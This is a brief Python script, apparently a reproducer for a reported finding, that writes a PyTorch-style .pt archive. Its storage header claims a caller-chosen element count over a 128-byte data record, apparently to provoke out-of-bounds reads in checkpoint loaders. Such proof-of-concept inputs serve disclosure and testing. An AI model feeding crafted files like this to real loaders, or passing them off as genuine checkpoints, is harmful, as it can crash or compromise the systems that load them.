#!/usr/bin/python3
# A torch.save-style zip whose one storage claims NUMEL float32 elements over a 128-byte
# record, and whose tensor views SIZE of them (issue 33, finding 5).
# Usage: oversized_storage.py OUT.pt NUMEL SIZE
import collections, io, pickle, sys, zipfile
import torch
out, numel, size = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
class Storage: pass
class Tensor:
    def __reduce__(self):
        return (torch._utils._rebuild_tensor_v2, (Storage(), 0, (size,), (1,), False, collections.OrderedDict()))
class Pickler(pickle.Pickler):
    def persistent_id(self, obj):
        return ("storage", torch.FloatStorage, "0", "cpu", numel) if isinstance(obj, Storage) else None
buffer = io.BytesIO()
Pickler(buffer, protocol=2).dump(collections.OrderedDict([("w", Tensor())]))
with zipfile.ZipFile(out, "w") as z:
    z.writestr("archive/data.pkl", buffer.getvalue())
    z.writestr("archive/byteorder", "little")
    z.writestr("archive/data/0", bytes(range(128)))
    z.writestr("archive/version", "3\n")
